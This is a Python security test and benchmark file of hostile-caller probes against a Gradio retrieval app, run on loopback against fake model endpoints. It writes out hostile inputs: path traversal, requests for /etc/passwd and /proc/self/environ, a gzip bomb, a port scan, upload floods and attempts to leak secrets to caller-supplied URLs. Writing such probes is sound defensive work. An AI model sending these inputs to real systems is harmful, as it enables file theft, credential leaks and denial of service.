"""Hostile-caller probes against the real app over HTTP (tests/test_security.py, bench/security.py).

Each probe reproduces one finding of the security review: a request a hostile caller could send
to a public deployment. Two apps run side by side with the server secrets set: ``public`` has
the default endpoint policy (public hosts only), ``listed`` allows the probes' own loopback
"attacker" endpoints through ``BRAG_ALLOWED_ENDPOINTS``, so what they receive can be recorded.
A probe passes when the request is refused or bounded as it should be, nothing reaches a place
it must not, and the server keeps answering.
"""

from __future__ import annotations

import base64
import gzip
import json
import os
import random
import re
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.request
import uuid
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from app_server import AppProcess, free_port, rest_call, rest_events, rest_stream, upload
from document_files import docx_with_body, raw_pdf
from gradio_client import Client
from openai_server import FakeOpenAI, Reply
from selftest_probes import selftest_probes, start_selftest_app

import brag
from bragkit.serving import presentation
from bragkit.serving.limits import Limits

ROOT = Path(__file__).resolve().parent.parent
SERVER_OPENAI_KEY = "sk-server-secret-openai"
SERVER_HF_TOKEN = "hf_server_secret_token"
ENV_SECRET = "API_KEY=sk-leak-me"
URL_PASSWORD = "s3cret-url-pw"
QUESTION = "Where was the architect of the Glass Tower born?"
DOCS = "The Glass Tower was designed by Lina Berg.\nLina Berg was born in Bergen in 1961."
REQUEST_TIMEOUT = 6.0


BASIC = base64.b64encode(f"user:{URL_PASSWORD}".encode()).decode()
MB = 1_000_000


def owner_reply(request: dict[str, Any]) -> Reply:
    """The owner's model: reads of Bergen's passage answer Bergen; FAIL in a question gets an HTTP 500.

    ECHOAUTH: a 401 whose body repeats the Authorization headers, as some proxies do; SAYKEY:
    an answer holding the server's key.
    """
    content = request["messages"][-1]["content"]
    if "FAIL" in content:
        return Reply(status=500)
    if "ECHOAUTH" in content:
        echoed = f"bad credentials: Authorization: Bearer {SERVER_OPENAI_KEY}; Authorization: Basic {BASIC}"
        return Reply(status=401, body=json.dumps({"error": {"message": echoed}}).encode())
    if "SAYKEY" in content:
        return Reply(texts=[f"Answer: {SERVER_OPENAI_KEY} and {SERVER_HF_TOKEN}"] * request.get("n", 1))
    if "Passages:" in content:  # a read names Bergen when its passages do, as a real reader would
        if "Bergen" not in content.rsplit("Question:", 1)[0]:
            return Reply(texts=["Answer: NONE\nFollow-up query: Lina Berg"])
        return Reply(texts=["Answer: Bergen\nFollow-up query: Lina Berg"])
    return Reply(texts=["Oslo", "Rome", "Lima", "Bergen", "Paris"][: request.get("n", 1)])


def rss_mb(pid: int, field: str = "VmRSS") -> float:
    """Resident memory of a process, from /proc (``VmHWM``: its peak since :func:`reset_peak`)."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(f"{field}:"):
            return int(line.split()[1]) / 1024
    return float("nan")


def reset_peak(pid: int) -> None:
    """Start counting a process's peak resident memory afresh (Linux: clear_refs 5), if allowed."""
    try:
        Path(f"/proc/{pid}/clear_refs").write_text("5")
    except OSError:
        pass  # then the peak is the process's since it started


def hostile_reply(request: dict[str, Any]) -> Reply:
    """An allowed endpoint that answers too much: by the question's keyword."""
    content = request["messages"][-1]["content"]
    if "BIGBODY" in content:  # 40 MB of JSON
        return Reply(texts=["Answer: " + "A" * 40 * MB])
    if "GZIPBOMB" in content:  # a few dozen kB that expand to 40 MB
        body = json.dumps({"choices": [{"message": {"content": "B" * 40 * MB}}]}).encode()
        return Reply(body=gzip.compress(body, 9), headers={"Content-Encoding": "gzip"})
    if "CHOICES" in content:  # 200,000 choices
        choice = {"index": 0, "message": {"role": "assistant", "content": "Answer: x"}}
        return Reply(body=json.dumps({"choices": [choice] * 200_000}).encode())
    if "LONGANSWER" in content:  # within the byte cap, but far longer than any answer
        return Reply(texts=["Answer: " + "Atlantis " * 50_000 + "\nFollow-up query: " + "q" * 100_000])
    for word, tokens in (("BIGUSAGE", 2**70), ("NEGUSAGE", -1_000_000_000)):
        if word in content:  # usage no request could have
            texts = ["Answer: Atlantis\nFollow-up query: x"] * request.get("n", 1)
            return Reply(texts=texts, usage={"prompt_tokens": tokens, "completion_tokens": tokens})
    if "HUGEUSAGE" in content:  # a number past what a JSON reader takes
        choice = '{"index": 0, "message": {"role": "assistant", "content": "Answer: Atlantis"}}'
        return Reply(body=f'{{"choices": [{choice}], "usage": {{"prompt_tokens": {"9" * 5_000}}}}}'.encode())
    return Reply(texts=["Answer: Atlantis\nFollow-up query: x"])


@dataclass
class Lab:
    """The apps and the loopback endpoints the probes use."""

    owner: FakeOpenAI
    attacker: FakeOpenAI
    trickle: FakeOpenAI
    hostile: FakeOpenAI
    blocker: FakeOpenAI
    public: AppProcess
    listed: AppProcess
    fair: AppProcess
    crowd: AppProcess
    milvus: AppProcess
    slow: FakeOpenAI  # the crowd app's endpoint that answers once released
    paced: FakeOpenAI  # answers as the owner does, a third of a second later (crowd)
    hold: FakeOpenAI  # holds every request a minute (crowd, fair)
    folders: dict[str, Path]  # each app's own folders: {"<app>-cache": ..., "<app>-tmp": ...}
    marker: str  # in every file name a hostile request asks for
    release: threading.Event  # lets the blocker endpoint answer
    release_slow: threading.Event  # lets the slow endpoint answer
    clients: dict[str, Client] = field(default_factory=dict)
    mark: int = 0  # how many requests the attacker endpoint had seen before the current probe
    selftest: AppProcess | None = None  # the self-test probes' app (selftest_probes.py)
    st: dict[str, FakeOpenAI] = field(default_factory=dict)  # its endpoints by name

    def attacker_auth(self) -> list[str]:
        """The Authorization headers the attacker endpoint received during the current probe."""
        return [
            h.get("Authorization", h.get("authorization", "")) for h in self.attacker.headers[self.mark :]
        ]

    def client(self, which: str) -> Client:
        if which not in self.clients:
            self.clients[which] = Client(getattr(self, which).url, verbose=False)
        return self.clients[which]


def app_folders(stack: ExitStack, name: str, folders: dict[str, Path]) -> dict[str, str]:
    """A cache folder and a temp folder of the app's own, and the variables that point there."""
    for kind in ("cache", "tmp"):
        folders[f"{name}-{kind}"] = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix=f"{name}-")))
    tmp = str(folders[f"{name}-tmp"])
    return {"BRAG_CACHE_DIR": str(folders[f"{name}-cache"]), "TMPDIR": tmp, "GRADIO_TEMP_DIR": tmp}


def start_lab(stack: ExitStack) -> Lab:
    release = threading.Event()
    stack.callback(release.set)
    owner = stack.enter_context(FakeOpenAI(handler=owner_reply))
    attacker = stack.enter_context(FakeOpenAI(answer="Answer: Atlantis\nFollow-up query: x"))
    trickle = stack.enter_context(FakeOpenAI(handler=lambda r: Reply(trickle=1.0)))
    hostile = stack.enter_context(FakeOpenAI(handler=hostile_reply))
    blocker = stack.enter_context(FakeOpenAI(handler=lambda r: (release.wait(120), Reply())[1]))
    host, port = owner.url.split("//")[1].split("/")[0].split(":")
    folders: dict[str, Path] = {}
    env = {
        "BRAG_MODEL": f"http://user:{URL_PASSWORD}@{host}:{port}/v1#m",
        "OPENAI_API_KEY": SERVER_OPENAI_KEY,
        "HF_TOKEN": SERVER_HF_TOKEN,
        "SECRET_NOTE": ENV_SECRET,
        "BRAG_REQUEST_TIMEOUT": str(REQUEST_TIMEOUT),
        "BRAG_DOCUMENTS_CACHE_BYTES": str(DOCUMENTS_BUDGET),
        "BRAG_ALLOWED_ENDPOINTS": "",
    }

    def start(name: str, **settings: str) -> AppProcess:
        """One app of the lab: the shared environment and the owner's model, then ``settings``."""
        own = {**env, "BRAG_MODEL": owner.url + "#m", **settings, **app_folders(stack, name, folders)}
        return stack.enter_context(AppProcess(own))

    public = start("public", BRAG_MODEL=env["BRAG_MODEL"])
    # The listed app's own model URL has no credentials in it, so its Bearer token is visible.
    listed = start("listed", BRAG_ALLOWED_ENDPOINTS=f"{attacker.url},{trickle.url},{hostile.url}")
    # Behind a proxy (loopback, trusted), with two workers, one request per caller, a short queue.
    hold = stack.enter_context(FakeOpenAI(handler=lambda r: Reply(delay=60)))
    fair = start(
        "fair",
        BRAG_ALLOWED_ENDPOINTS=f"{blocker.url},{hold.url}",
        BRAG_TRUSTED_PROXIES="127.0.0.1",
        BRAG_CONCURRENCY="2",
        BRAG_MAX_PER_SESSION="1",
        BRAG_MAX_PER_ADDRESS="1",
        BRAG_MAX_QUEUE="3",
        BRAG_REQUEST_TIMEOUT="120",
    )
    # Behind a trusted proxy with four workers and the default per-address share (half of them).
    release_slow = threading.Event()
    stack.callback(release_slow.set)
    slow = stack.enter_context(FakeOpenAI(handler=lambda r: (release_slow.wait(), owner_reply(r))[1]))
    paced = stack.enter_context(FakeOpenAI(handler=lambda r: (time.sleep(0.3), owner_reply(r))[1]))
    # Behind a proxy that appends the address it was reached from, as a Space's does ("*").
    crowd = start(
        "crowd",
        BRAG_ALLOWED_ENDPOINTS=f"{slow.url},{paced.url},{hold.url}",
        BRAG_TRUSTED_PROXIES="*",
        BRAG_CONCURRENCY="4",
        BRAG_REQUEST_TIMEOUT="120",
    )
    milvus = start("milvus", BRAG_REQUEST_TIMEOUT="120", BRAG_MILVUS_URI=milvus_collection(folders, stack))
    marker = f"pwned-{uuid.uuid4().hex[:8]}"
    lab = Lab(
        owner,
        attacker,
        trickle,
        hostile,
        blocker,
        public,
        listed,
        fair,
        crowd,
        milvus,
        slow,
        paced,
        hold,
        folders,
        marker,
        release,
        release_slow,
    )
    lab.selftest, lab.st = start_selftest_app(stack, start, owner_reply)
    return lab


MILVUS_PASSAGES = 3_000


def milvus_collection(folders: dict[str, Path], stack: ExitStack) -> str:
    """A Milvus Lite file holding a collection ``brag`` of 3,000 passages of made-up words.

    Milvus Lite is one process's file: the index command writes it and exits, then the app opens it.
    """
    folders["milvus-db"] = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="milvus-db-")))
    uri = str(folders["milvus-db"] / "brag.db")
    rng = random.Random(7)
    letters = "abcdefghijklmnopqrstuvwxyz"
    words = ["".join(rng.choice(letters) for _ in range(rng.randint(4, 9))) for _ in range(20_000)]
    passages = DOCS.splitlines() + [
        " ".join(rng.choice(words) for _ in range(60)) for _ in range(MILVUS_PASSAGES - 2)
    ]
    source = folders["milvus-db"] / "passages.json"
    source.write_text(json.dumps(passages))
    command = [sys.executable, "-m", "brag", "index", str(source), "--milvus", uri, "--collection", "brag"]
    subprocess.run(command, cwd=ROOT, check=True, capture_output=True, timeout=300)
    return uri


def brag_args(
    question: str = QUESTION, documents: str = DOCS, model: str = "", token: str = "", cal: str = ""
):
    return [question, "", documents, 0.05, model, token, "auto", cal]


def call(lab: Lab, which: str, args: list[Any], api: str = "/brag") -> str:
    """The answer, or the error message, of one request through gradio_client."""
    try:
        result = lab.client(which).predict(*args, api_name=api)
    except Exception as err:
        return f"error: {err}"
    if api == "/brag":
        answer, report = result
        return f"answer: {answer} (model {report.get('model')})"
    return "calibration returned"


@dataclass
class Probe:
    """One hostile request and what must hold after it."""

    finding: str
    sent: str  # what the caller sent, for the results table
    app: str  # "public" or "listed"
    send: Callable[[Lab], str]
    check: Callable[[Lab, str], str | None]  # None when it holds, else why not
    watch: str = "owner"  # the endpoint whose request count must not grow ("" for none)
    max_rss_growth: float | None = None  # MB the app's resident memory may grow by
    max_cpu: float | None = None  # CPU seconds the app and its child processes may spend
    # False: bench/security.py runs it, the suite does not (a unit test covers its finding faster)
    suite: bool = True


@dataclass
class Outcome:
    """What a probe observed."""

    probe: Probe
    response: str
    seconds: float
    rss_before: float
    rss_after: float
    failure: str | None
    cpu: float = 0.0  # CPU seconds the app and its child processes spent on the probe
    honest: float = 0.0  # seconds the honest question after the probe took, on the same app
    rss_peak: float = 0.0  # the app process's peak resident set during the probe (MB)


SECRETS = (SERVER_OPENAI_KEY, SERVER_HF_TOKEN, ENV_SECRET, URL_PASSWORD, BASIC)


def error_matching(pattern: str, *, absent: tuple[str, ...] = ()) -> Callable[[Lab, str], str | None]:
    def check(lab: Lab, response: str) -> str | None:
        if not response.startswith("error:") or not re.search(pattern, response):
            return f"expected an error matching {pattern!r}"
        for secret in (*absent, *SECRETS, "Traceback"):
            if secret in response:
                return f"the response holds {secret!r}"
        return None

    return check


def reply_starting(*prefixes: str) -> Callable[[Lab, str], str | None]:
    """The probe's reply starts with one of ``prefixes`` (an answer, a clear error, a figure)."""
    return lambda lab, response: None if response.startswith(prefixes) else response


def all_of(*checks: Callable[[Lab, str], str | None]) -> Callable[[Lab, str], str | None]:
    def check(lab: Lab, response: str) -> str | None:
        return next((why for c in checks if (why := c(lab, response)) is not None), None)

    return check


def log_clean(which: str) -> Callable[[Lab, str], str | None]:
    def check(lab: Lab, response: str) -> str | None:
        log = getattr(lab, which).log()
        found = [secret for secret in SECRETS if secret in log]
        return f"the {which} app's log holds {found}" if found else None

    return check


# ------------------------------------------------------------------ Gradio's queue, driven by hand


def dependencies(url: str) -> list[dict[str, Any]]:
    """Every event the app registers, as its /config lists them (the index is the fn_index)."""
    with urllib.request.urlopen(url + "config", timeout=10) as page:
        return json.loads(page.read())["dependencies"]


def queue_join(url: str, fn_index: int, data: list[Any], timeout: float = 60, limit: int = 2000) -> str:
    """Run one event by ``fn_index`` as the page does (POST queue/join, then its SSE stream)."""
    session = uuid.uuid4().hex
    body = json.dumps({"data": data, "fn_index": fn_index, "session_hash": session}).encode()
    request = urllib.request.Request(
        url + "gradio_api/queue/join", data=body, headers={"Content-Type": "application/json"}
    )
    try:
        with urllib.request.urlopen(request, timeout=timeout) as reply:
            reply.read()
    except urllib.error.HTTPError as err:
        return f"error: HTTP {err.code} {err.read()[:300].decode(errors='replace')}"
    with urllib.request.urlopen(
        f"{url}gradio_api/queue/data?session_hash={session}", timeout=timeout
    ) as feed:
        for raw in feed:
            line = raw.decode(errors="replace").strip()
            if not line.startswith("data:"):
                continue
            message = json.loads(line[5:])
            if message.get("msg") == "process_completed":
                output = message.get("output") or {}
                if not message.get("success", False):
                    return f"error: {output.get('error')}"
                return "output: " + json.dumps(output.get("data"))[:limit]
    return "error: the stream ended without a result"


def fn_index_of(lab: Lab, which: str, name: str) -> int:
    deps = dependencies(getattr(lab, which).url)
    return next(i for i, d in enumerate(deps) if d.get("api_name") == name)


def files_named(roots: list[Path], marker: str) -> list[str]:
    found = []
    for root in roots:
        for folder, dirs, files in os.walk(root):
            found += [os.path.join(folder, n) for n in dirs + files if marker in n]
    return found


def keep_a_fit(lab: Lab) -> Path:
    """Fit and keep a calibration on the public app."""
    labelled = json.dumps([{"question": QUESTION, "gold": ["Bergen"]}] * 30)
    result = json.loads(
        lab.client("public").predict(labelled, "", DOCS, "", "", "auto", api_name="/calibrate")
    )
    # Kept in the folder of the address that made it.
    return next((lab.folders["public-cache"] / "calibrations").glob(f"a-*/{result['name']}.json"))


def every_event_with_hostile_data(lab: Lab) -> str:
    """Every fn_index, with every arity around its own, and data that names paths to write."""
    kept = keep_a_fit(lab)
    kept_bytes = kept.read_bytes()
    outside = str(Path(tempfile.gettempdir()) / lab.marker)
    values: list[Any] = [
        json.dumps({"name": outside, "version": 1, "eta": 0.1}),
        json.dumps({"name": "../" * 12 + "tmp/" + lab.marker}),
        json.dumps({"name": str(kept.with_suffix("")), "eta": 0.5}),  # overwrite a kept fit
        {"name": outside, "steps": [{"posterior": 1}]},
        None,
    ]
    replies = []
    for index, dep in enumerate(dependencies(lab.public.url)):
        n = len(dep.get("inputs", []))
        for arity in sorted({0, max(n - 1, 0), n, n + 1}):
            replies += [queue_join(lab.public.url, index, [value] * arity) for value in values]
    written = files_named([ROOT, Path(tempfile.gettempdir()), *lab.folders.values()], lab.marker)
    leaks = [r for r in replies if str(ROOT) in r or os.getcwd() in r or "Traceback" in r]
    if written:
        return f"files written from request data: {written}"
    if kept.read_bytes() != kept_bytes:
        return "a kept calibration was overwritten"
    if leaks:
        return f"a reply shows a server path: {leaks[0][:200]}"
    if not call(lab, "public", brag_args(cal=kept.stem)).startswith("answer: Bergen"):
        return "the kept calibration no longer works"
    return f"{len(replies)} hostile calls to {len(dependencies(lab.public.url))} events; nothing written"


def render_a_huge_report(lab: Lab) -> str:
    """The page's private render event, sent a report of 20,000 candidates (within its 1 MB bound)."""
    candidates = [{"answer": f"c{i}", "p": 0.0, "votes": 0} for i in range(20_000)]
    report = {
        "steps": [
            {
                "step": 1,
                "action": "R1",
                "posterior": {"candidates": candidates, "residual": 1.0, "p_err": 1.0},
            }
        ],
        "finished": False,
        "totals": {},
    }
    before = cpu_seconds(lab.public.proc.pid)
    reply = queue_join(lab.public.url, fn_index_of(lab, "public", "render"), ["", report])
    return f"{reply[:120]} · server CPU {cpu_seconds(lab.public.proc.pid) - before:.2f} s"


def cpu_seconds(pid: int) -> float:
    """User plus system CPU time of a process, from /proc."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def result_ending(text: str) -> Callable[[Lab, str], str | None]:
    """The probe's own result ends with ``text`` (else the result is the finding)."""

    def check(lab: Lab, result: str) -> str | None:
        return None if result.endswith(text) else result

    return check


def cpu_below(limit: float) -> Callable[[Lab, str], str | None]:
    def check(lab: Lab, response: str) -> str | None:
        if not response.startswith("output:"):
            return f"the render event failed: {response[:200]}"
        spent = float(response.rsplit("server CPU ", 1)[1].split()[0])
        return None if spent < limit else f"the server spent {spent:.1f} s of CPU"

    return check


def children(pid: int) -> int:
    """How many processes ``pid`` has started that are still running."""
    count = 0
    for status in Path("/proc").glob("[0-9]*/status"):
        try:
            count += f"\nPPid:\t{pid}\n" in status.read_text()
        except OSError:
            pass
    return count


def local_model_refused(lab: Lab, spec: str) -> str:
    before = children(lab.public.proc.pid)
    reply = call(lab, "public", brag_args(model=spec))
    started = children(lab.public.proc.pid) - before
    return reply + (f" · {started} worker process(es) started" if started else "")


def oversized_upload(lab: Lab) -> str:
    boundary = "brag-probe"
    body = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="{lab.marker}.txt"\r\n'
        f"Content-Type: text/plain\r\n\r\n{'x' * (Limits().upload_file_bytes() + 1)}\r\n--{boundary}--\r\n"
    ).encode()
    request = urllib.request.Request(
        lab.public.url + "gradio_api/upload",
        data=body,
        headers={"Content-Type": f"multipart/form-data; boundary={boundary}"},
    )
    try:
        with urllib.request.urlopen(request, timeout=60) as reply:
            return f"HTTP {reply.status} {reply.read()[:200].decode(errors='replace')}"
    except urllib.error.HTTPError as err:
        return f"error: HTTP {err.code} {err.read()[:200].decode(errors='replace')}"


def server_paths_as_files(lab: Lab) -> str:
    """/brag's files input naming server files, as FileData a caller writes by hand."""
    secret = next(iter(lab.folders.values())) / f"{lab.marker}-secret.txt"
    secret.write_text("Lina Berg was born in Bergen. root:x:0:0")
    answers = []
    for path in ("/etc/passwd", str(secret), "../../etc/passwd"):
        files = [{"path": path, "meta": {"_type": "gradio.FileData"}}]
        data = [*brag_args(documents=""), "tokens", None, None, files]
        answers.append(rest_result(lab.public.url, "brag", rest_post(lab.public.url, "brag", data, {})))
    return " | ".join(answers)


def nothing_uploaded(lab: Lab, response: str) -> str | None:
    stored = [f for f in files_named(list(lab.folders.values()), lab.marker) if os.path.isfile(f)]
    return f"the upload was stored: {stored}" if stored else error_matching("413")(lab, response)


def long_answer(lab: Lab) -> str:
    model = lab.hostile.url + "#m"
    answer, report = lab.client("listed").predict(*brag_args("LONGANSWER?", model=model), api_name="/brag")
    read = next(step["observation"] for step in report["steps"] if step["action"] == "R1")
    sizes = (len(answer), len(read["raw"]), len(read["follow_up_query"]), len(json.dumps(report)))
    return "answer, raw reply, follow-up query, report: {} {} {} {} characters".format(*sizes)


def bounded_texts(lab: Lab, response: str) -> str | None:
    answer, raw, query, whole = map(int, response.split(": ", 1)[1].split()[:4])
    # An answer is cut to brag.MAX_ANSWER_CHARS; "Not in your documents. A guess, …" may lead it.
    most = len(presentation.stated_answer("x" * brag.MAX_ANSWER_CHARS, {"found_in_documents": False}))
    if answer > most or raw > 2_000 or query > 300 or whole > 20_000:
        return f"unbounded text reached the caller ({response})"
    return None


def secrets_in_stream(lab: Lab) -> str:
    """Every streamed event of a run whose answer holds the server's keys."""
    events = rest_events(lab.public.url, "brag", brag_args(question="SAYKEY?"))
    text = json.dumps(events)
    return f"{len(events)} events · " + ("secret streamed" if any(s in text for s in SECRETS) else "clean")


# ------------------------------------------------------------------------------- fair queues


def via(address: str) -> dict[str, str]:
    return {"X-Forwarded-For": address}


def rest_post(url: str, api: str, data: list[Any], headers: dict[str, str], session: str = "") -> str:
    """POST a REST call (in ``session``, if given); its event id, or the error the server answered with."""
    request = urllib.request.Request(
        f"{url}gradio_api/call/{api}",
        data=json.dumps({"data": data, **({"session_hash": session} if session else {})}).encode(),
        headers={"Content-Type": "application/json", **headers},
    )
    try:
        with urllib.request.urlopen(request, timeout=60) as reply:
            return "event: " + json.loads(reply.read())["event_id"]
    except urllib.error.HTTPError as err:
        return f"error: HTTP {err.code} {err.read()[:300].decode(errors='replace')}"


def rest_result(url: str, api: str, event: str, timeout: float = 150) -> str:
    """The result of a REST call; "waiting" when none came within ``timeout`` seconds."""
    if not event.startswith("event: "):
        return event
    try:
        kind, data = rest_stream(url, api, event.split(": ", 1)[1], timeout)[-1]
    except TimeoutError:
        return f"waiting: no result within {timeout:g} s"
    except RuntimeError:
        return "error: no result"
    return f"{kind}: {data[:300]}"


def wait_for(condition: Callable[[], bool], what: str, seconds: float = 60) -> None:
    end = time.monotonic() + seconds
    while not condition():
        if time.monotonic() > end:
            raise RuntimeError(f"gave up waiting for {what}")
        time.sleep(0.05)


def one_caller_cannot_starve_the_rest(lab: Lab) -> str:
    """Callers behind a trusted proxy; two /brag workers, one request each, a queue of three.

    A holds a worker with a request its endpoint never answers, then floods; B must still be
    answered. A long /calibrate holds its own slot, not a /brag worker. With both workers held,
    three requests queue and a fourth is told the server is busy.
    """
    try:
        return _starve(lab)
    finally:
        lab.release.set()


def _starve(lab: Lab) -> str:
    url, blocked = lab.fair.url, brag_args(model=lab.blocker.url + "#m")
    seen = lambda n: lambda: len(lab.blocker.chat_requests) >= n  # noqa: E731
    held = rest_post(url, "brag", blocked, via("203.0.113.1"))
    wait_for(seen(1), "A's first request to reach its endpoint")
    flood = [rest_post(url, "brag", blocked, via("203.0.113.1")) for _ in range(10)]
    # A refusal is immediate; a request stuck behind A's would wait for good, so 20 s is plenty.
    refused = sum("Busy" in rest_result(url, "brag", e, timeout=20) for e in flood)
    refused += sum("HTTP 503" in e for e in flood)  # the queue was full: busy too
    answered_b = rest_result(url, "brag", rest_post(url, "brag", brag_args(), via("198.51.100.2")), 20)
    labelled = json.dumps([{"question": QUESTION, "gold": ["Bergen"]}] * 30)
    calibrating = rest_post(
        url, "calibrate", [labelled, "", DOCS, lab.blocker.url + "#m", "", "auto"], via("203.0.113.3")
    )
    wait_for(seen(2), "the calibration to reach its endpoint")
    answered_b2 = rest_result(url, "brag", rest_post(url, "brag", brag_args(), via("198.51.100.2")), 20)
    second = rest_post(url, "brag", blocked, via("203.0.113.4"))
    wait_for(seen(3), "the second worker to be held")
    queued = [rest_post(url, "brag", brag_args(), via(f"198.51.100.{10 + i}")) for i in range(3)]
    overflow = rest_post(url, "brag", brag_args(), via("198.51.100.20"))
    lab.release.set()
    finished = [rest_result(url, "brag", e) for e in queued]
    for event, api in ((held, "brag"), (second, "brag"), (calibrating, "calibrate")):
        rest_result(url, api, event)
    return (
        f"A: {refused} of {len(flood)} flood requests refused busy · B while A held a worker: "
        f"{answered_b[:60]} · B while /calibrate ran: {answered_b2[:60]} · queued 3: "
        f"{sum('Bergen' in f for f in finished)} answered · 4th: {overflow[:160]}"
    )


def fair_outcome(lab: Lab, response: str) -> str | None:
    if "10 of 10 flood requests refused busy" not in response:
        return "the flood was not refused"
    if response.count("Bergen") < 2:
        return "B was not answered while A (or /calibrate) held a slot"
    if "queued 3: 3 answered" not in response:
        return "the queued requests were not answered"
    if "HTTP 503" not in response or "BRAG_MAX_QUEUE" not in response:
        return "a full queue did not say busy, retry"
    return None


NOT_A_PATH = r"must be the JSON that /calibrate returns"


def same_error_for_every_path(lab: Lab) -> str:
    paths = ["/etc/passwd", "/proc/self/environ", "/nonexistent/brag.json", "/tmp", "/root"]
    replies = {call(lab, "public", brag_args(cal=path)) for path in paths}
    return replies.pop() if len(replies) == 1 else f"different replies: {sorted(replies)}"


def no_server_secret_sent(lab: Lab, response: str) -> str | None:
    sent = lab.attacker_auth()
    if not sent:
        return "the attacker endpoint received nothing, so the probe proved nothing"
    if any(SERVER_OPENAI_KEY in a or SERVER_HF_TOKEN in a for a in sent):
        return f"a server secret went to the caller's URL: {sent}"
    return None


def caller_token_only(lab: Lab, response: str) -> str | None:
    sent = set(lab.attacker_auth())
    return None if sent == {"Bearer caller-own-token"} else f"the caller's URL received {sent}"


def owner_gets_the_secret(lab: Lab, response: str) -> str | None:
    sent = lab.owner.headers[-1].get("Authorization", lab.owner.headers[-1].get("authorization", ""))
    if not response.startswith("answer: Bergen"):
        return "the owner's model did not answer"
    if URL_PASSWORD in response:
        return "report.model holds the URL's password"
    return None if SERVER_OPENAI_KEY in sent else "the owner's endpoint did not get OPENAI_API_KEY"


def loopback(lab: Lab, host: str) -> str:
    return f"http://{host}:{lab.attacker.url.rsplit(':', 1)[1]}"


def port_scan(lab: Lab) -> str:
    open_port = int(lab.attacker.url.rsplit(":", 1)[1].split("/")[0])
    replies = []
    for port in (open_port, free_port()):
        reply = call(lab, "public", brag_args(model=f"http://127.0.0.1:{port}/v1#m"))
        replies.append(reply.replace(str(port), "PORT"))
    return replies[0] if replies[0] == replies[1] else f"open and closed ports differ: {replies}"


def config_and_log_clean(lab: Lab, response: str) -> str | None:
    with urllib.request.urlopen(lab.public.url + "config", timeout=10) as page:
        config = page.read().decode()
    for where, text in (("/config", config), ("the error", response), ("the log", lab.public.log())):
        for secret in (URL_PASSWORD, SERVER_OPENAI_KEY, SERVER_HF_TOKEN, "caller-secret-in-log"):
            if secret in text:
                return f"{where} holds {secret!r}"
    return None if "user:" not in config else "/config holds the URL's user name"


def raw_post(lab: Lab, body: bytes) -> str:
    request = urllib.request.Request(
        lab.public.url + "gradio_api/call/brag", data=body, headers={"Content-Type": "application/json"}
    )
    try:
        with urllib.request.urlopen(request, timeout=60) as reply:
            return f"HTTP {reply.status}"
    except urllib.error.HTTPError as err:
        return f"error: HTTP {err.code} {err.read()[:200].decode(errors='replace')}"
    except (ConnectionError, urllib.error.URLError) as err:
        return f"error: connection closed ({err})"


def too_few_inputs(lab: Lab) -> str:
    try:
        rest_call(lab.public.url, "brag", [QUESTION, "", DOCS, 0.05, "", "caller-secret-in-log", "auto"])
    except RuntimeError as err:
        return f"error: {err}"
    return "answered"


DISTINCT_SETS = 16  # about 10 MB each in memory once indexed: several times the lab's budget
DOCUMENTS_BUDGET = 20_000_000


def distinct_documents(lab: Lab) -> str:
    for i in range(DISTINCT_SETS):
        lines = "\n".join(
            f"Passage {i}-{j} about the town number {j} and its river {i * j}." for j in range(12_000)
        )
        reply = call(lab, "public", brag_args(documents=f"{DOCS}\n{lines}"))
        if not reply.startswith("answer:"):
            return reply
    return f"{DISTINCT_SETS} distinct 0.8 MB document sets answered"


def documents_cache_kept_within_budget(lab: Lab) -> str | None:
    """The app's own account of its pasted-documents cache (its log) stayed within the budget."""
    counts = [
        (int(m[1]), int(m[2]), int(m[3]))
        for m in re.finditer(r"documents cache: (\d+) sets, (\d+) of (\d+) bytes", lab.public.log())
    ]
    if len(counts) < DISTINCT_SETS:
        return f"the log accounts for {len(counts)} of the {DISTINCT_SETS} document sets"
    if any(held > budget for _, held, budget in counts) or counts[-1][2] != DOCUMENTS_BUDGET:
        return f"the documents cache held more than its budget: {max(h for _, h, _ in counts):,} bytes"
    if counts[-1][0] >= DISTINCT_SETS:
        return "no document set was evicted"
    return None


def calibration_json(**changes: Any) -> str:
    data = json.loads((ROOT / "data" / "calibration_prior.json").read_text())
    data.update(changes)
    return json.dumps(data)


TINY_ETA = calibration_json(eta=5e-324)
MANY_LEVELS = calibration_json(
    m=1000,
    actions={
        **json.loads(calibration_json())["actions"],
        "CB": {
            "q": 0.9,
            "levels": {str(g): {"pi": 0.001, "kappa": {"a": 1, "b": 1}} for g in range(1, 1001)},
        },
    },
)
LABELLED_301 = json.dumps([{"question": f"Q{i}?", "gold": ["a"]} for i in range(301)])
DEMO_JSON = str(ROOT / "data" / "demo_corpus.json")
SHIPPED_FILE = str(ROOT / "data" / "calibration_prior.json")


# ------------------------------------------------------------------ third round (issue 32): files


def file_data(paths: list[str]) -> list[dict[str, Any]]:
    return [{"path": p, "meta": {"_type": "gradio.FileData"}} for p in paths]


def ask_over_rest(
    url: str, data: list[Any], headers: dict[str, str] | None = None, timeout: float = 150
) -> tuple[str, list[tuple[str, str]]]:
    """One REST call to /brag: "answer: ..." or "error: ...", and every event it streamed."""
    event = rest_post(url, "brag", data, headers or {})
    if not event.startswith("event: "):
        return event, []
    try:
        events = rest_stream(url, "brag", event.split(": ", 1)[1], timeout)
    except TimeoutError:
        return f"waiting: no result within {timeout:g} s", []
    except RuntimeError:
        return "error: no result", []
    kind, payload = events[-1]
    if kind == "complete":
        return f"answer: {json.loads(payload)[0]}", events
    return f"error: {payload[:400]}", events


def ask_files(
    url: str, files: list[tuple[str, bytes]], question: str = QUESTION, headers: dict[str, str] | None = None
) -> str:
    """Upload files as a REST caller does, then ask /brag over them."""
    paths = []
    for name, data in files:
        status, path = upload(url, name, data, headers)
        if status != 200:
            return f"error: upload answered HTTP {status}: {path[:200]}"
        paths.append(path)
    data = [*brag_args(question, documents=""), "tokens", None, None, file_data(paths)]
    return ask_over_rest(url, data, headers)[0]


SHARED_STREAM = b"q Q " * 600_000 + b"BT /F1 12 Tf (Lina Berg was born in Bergen.) Tj ET"


